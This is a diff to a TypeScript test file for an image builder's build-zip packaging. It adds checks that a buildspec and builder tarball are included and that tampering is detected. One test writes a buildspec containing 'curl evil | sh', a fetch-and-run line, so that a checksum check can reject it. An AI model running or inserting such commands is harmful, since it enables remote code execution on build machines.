@@ -10,7 +10,8 @@ import { wifiPsk } from '../customize/secrets'
 import { loadRecipe } from '../recipe/load'
 import { startS3, type TestS3 } from '../testing/s3'
 import { BUILDER_VERSION } from '../version'
-import { packBuildZip, unpackBuildZip, uploadBuildZip } from './build-zip'
+import { BUILDSPEC_FILE, builderFiles, tarballName } from './builder-tarball'
+import { checkBuildFolder, packBuildZip, unpackBuildZip, uploadBuildZip } from './build-zip'
 import { readStatus } from './status'
 import { extractZip } from './zip'
 
@@ -111,7 +112,22 @@ describe('build.zip', () => {
       ['files/motd', ['files[0].source']],
       ['files/scripts/setup.sh', ['firstBoot[0]', 'startupScripts.everyTime[0]']],
       ['outside/1/ca.pem', ['startupScripts.resources[0]']],
+      // What runs the build in the cloud: named by no recipe field, checked like the rest.
+      ['buildspec.yml', []],
+      ['orchard-builder.tgz', []],
     ])
+    expect(await readFile(path.join(work, 'buildspec.yml'), 'utf8')).toBe(await readFile(BUILDSPEC_FILE, 'utf8'))
+    const builderNames = execFileSync('tar', ['-tzf', path.join(work, 'orchard-builder.tgz')], { encoding: 'utf8' }).trim().split('\n')
+    expect(builderNames).toEqual(expect.arrayContaining(['package/package.json', 'package/package-lock.json', 'package/bin/orchard.js', 'package/builder/src/cli/main.ts', 'package/builder/src/cloud/worker.ts']))
+    // The same files as the builder's container image, no tests.
+    expect(builderNames).toEqual((await builderFiles()).map(tarballName))
+    expect(builderNames.filter((name) => name.endsWith('.test.ts'))).toEqual([])
+
+    // The worker's check of a folder CodeBuild unpacked: hashes from disk.
+    await expect(checkBuildFolder(work)).resolves.toMatchObject({ manifest: { id: packed.id } })
+    await writeFile(path.join(work, 'buildspec.yml'), 'version: 0.2\nphases: { build: { commands: [curl evil | sh] } }\n')
+    await expect(checkBuildFolder(work)).rejects.toMatchObject({ code: 'CHECKSUM_MISMATCH', message: expect.stringContaining('buildspec.yml does not match') })
+    await writeFile(path.join(work, 'buildspec.yml'), await readFile(BUILDSPEC_FILE))
     expect(await readFile(path.join(work, 'outside/1/ca.pem'), 'utf8')).toContain('BEGIN CERTIFICATE')
     expect((await readFile(path.join(work, 'files/base.img'))).equals(Buffer.alloc(1 << 20, 7))).toBe(true)
 
@@ -127,7 +143,7 @@ describe('build.zip', () => {
     // And no plaintext secret in any byte: the zip as stored, and every entry decompressed.
     const raw = await mkdtemp(path.join(dir, 'raw-'))
     const entries = await extractZip(downloaded, raw)
-    expect(entries.map((e) => e.name).sort()).toEqual(['build.json', 'files/base.img', 'files/motd', 'files/scripts/setup.sh', 'outside/1/ca.pem', 'recipe.yml'])
+    expect(entries.map((e) => e.name).sort()).toEqual(['build.json', 'buildspec.yml', 'files/base.img', 'files/motd', 'files/scripts/setup.sh', 'orchard-builder.tgz', 'outside/1/ca.pem', 'recipe.yml'])
     const texts = [local.toString('latin1'), ...(await Promise.all(entries.map((e) => readFile(path.join(raw, e.name), 'latin1'))))]
     for (const text of texts) {
       expect(text).not.toContain(PASSWORD)
